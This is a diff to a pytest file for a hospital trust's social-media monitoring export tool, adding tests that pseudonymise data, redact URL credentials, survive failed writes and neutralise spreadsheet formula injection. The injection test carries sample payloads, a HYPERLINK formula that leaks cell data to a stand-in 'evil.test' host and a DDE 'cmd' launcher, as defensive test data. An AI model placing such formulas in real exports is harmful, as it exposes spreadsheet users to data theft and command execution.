@@ -8,10 +8,12 @@ import pyarrow.parquet as pq
 import pytest
 
 from alerts.export import PSEUDONYM_KEY_ENV, ExportError, ExportFormat, Pseudonymiser, export_window
-from classifiers.staff import StaffMatcher
-from classifiers.staff_directory import load_staff_directory
+from classifiers.staff.directory import load_staff_directory
+from classifiers.staff.linking import StaffDetector
+from storage import exports
 from storage.cases import CaseBook
 from storage.store import Store
+from tests.support.staff import staff_detector
 from trustwatch.records import Alert, Classification, Cursor, Finding, Mention, Severity, SubjectType, Window
 from trustwatch.settings import TrustProfile
 
@@ -87,14 +89,14 @@ def store(tmp_path: Path) -> Iterator[Store]:
 
 
 @pytest.fixture
-def staff_matcher(tmp_path: Path) -> StaffMatcher:
+def staff_matcher(tmp_path: Path) -> StaffDetector:
     directory = tmp_path / "staff.csv"
     directory.write_text(
         "staff_id,full_name,known_as,title,role,department\nT100,Eleanor Whitcombe,,Sister,Ward Sister,Ward 12\n",
         encoding="utf-8",
     )
     trust = TrustProfile(name="Kingsmere Valley Hospitals NHS Foundation Trust", aliases=["Kingsmere General"])
-    return StaffMatcher(load_staff_directory(directory), trust)
+    return staff_detector(load_staff_directory(directory), trust)
 
 
 def export_csv(store: Store, path: Path, **options: object) -> list[dict[str, str]]:
@@ -113,7 +115,7 @@ def export_csv(store: Store, path: Path, **options: object) -> list[dict[str, st
 
 
 def test_members_of_the_public_are_pseudonymised_and_patient_identifiers_redacted(
-    store: Store, tmp_path: Path, staff_matcher: StaffMatcher
+    store: Store, tmp_path: Path, staff_matcher: StaffDetector
 ) -> None:
     path = tmp_path / "export.csv"
     rows = {row["native_id"]: row for row in export_csv(store, path, staff_finder=staff_matcher)}
@@ -133,7 +135,7 @@ def test_members_of_the_public_are_pseudonymised_and_patient_identifiers_redacte
     assert stat.S_IMODE(path.stat().st_mode) == 0o600
 
 
-def test_staff_names_appear_only_in_staff_cases(store: Store, tmp_path: Path, staff_matcher: StaffMatcher) -> None:
+def test_staff_names_appear_only_in_staff_cases(store: Store, tmp_path: Path, staff_matcher: StaffDetector) -> None:
     rows = {row["native_id"]: row for row in export_csv(store, tmp_path / "export.csv", staff_finder=staff_matcher)}
 
     assert rows["102"]["staff_case"] == "true"
@@ -214,3 +216,68 @@ def test_an_existing_file_is_not_replaced_unless_asked(store: Store, tmp_path: P
         store, WINDOW, path, export_format=ExportFormat.CSV, exported_by="priya", pseudonym_key=KEY, overwrite=True
     )
     assert path.read_text(encoding="utf-8").startswith("platform,")
+
+
+def land_more(store: Store, *mentions: Mention) -> None:
+    store.land(
+        run_id="run-2",
+        source="x-search",
+        source_type="x",
+        mentions=list(mentions),
+        accounts=[],
+        classifications=[],
+        cursor=None,
+    )
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text_in_csv_only(
+    store: Store, tmp_path: Path
+) -> None:
+    land_more(
+        store,
+        post("201", '=HYPERLINK("http://evil.test/?leak="&A1,"Kingsmere General results")', "mallory"),
+        post("202", "-5 stars for Kingsmere General", "critic", title="+1 to that"),
+        post("203", "@KingsmereNHS thank you", "fan"),
+        post("204", "\tcmd|' /C calc'!A0", "tabby", title="\rreturn"),
+        post("205", "A fine day at Kingsmere General = good", "calm"),
+    )
+    rows = {row["native_id"]: row for row in export_csv(store, tmp_path / "export.csv")}
+
+    assert rows["201"]["text"] == "'" + '=HYPERLINK("http://evil.test/?leak="&A1,"Kingsmere General results")'
+    assert (rows["202"]["text"], rows["202"]["title"]) == ("'-5 stars for Kingsmere General", "'+1 to that")
+    assert rows["203"]["text"] == "'@KingsmereNHS thank you"
+    assert rows["204"]["text"].startswith("'\t")
+    assert rows["205"]["text"] == "A fine day at Kingsmere General = good"
+
+    path = tmp_path / "export.parquet"
+    export_window(store, WINDOW, path, export_format=ExportFormat.PARQUET, exported_by="priya", pseudonym_key=KEY)
+    by_id = {row["native_id"]: row for row in pq.read_table(path).to_pylist()}
+    assert by_id["202"]["text"] == "-5 stars for Kingsmere General", "Parquet is not opened by spreadsheets"
+
+
+def test_a_link_stored_with_credentials_before_redaction_is_exported_without_them(store: Store, tmp_path: Path) -> None:
+    store.connection.execute(
+        "UPDATE collected_mentions SET url = 'https://news.test/story?id=7&apikey=XYZ123' WHERE native_id = '104'"
+    )
+    rows = {row["native_id"]: row for row in export_csv(store, tmp_path / "export.csv")}
+    assert rows["104"]["url"] == "https://news.test/story?id=7&apikey=…"
+
+
+def test_a_failed_write_leaves_the_old_file_and_no_partial_one(
+    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = tmp_path / "export.csv"
+    path.write_text("last week's export", encoding="utf-8")
+
+    def disk_full(store: Store, table: object, target: Path, file_format: str) -> None:
+        target.write_text("platform,source,half a ro", encoding="utf-8")
+        raise exports.CopyError("No space left on device")
+
+    monkeypatch.setattr(exports, "copy_to_file", disk_full)
+    with pytest.raises(ExportError, match=r"export.csv: cannot write the export \(No space left on device\)"):
+        export_window(
+            store, WINDOW, path, export_format=ExportFormat.CSV, exported_by="priya", pseudonym_key=KEY, overwrite=True
+        )
+    assert path.read_text(encoding="utf-8") == "last week's export"
+    assert [entry.name for entry in tmp_path.iterdir() if "export" in entry.name] == ["export.csv"]
+    assert store.fetch_dicts("SELECT count(*) AS n FROM exports") == [{"n": 0}]
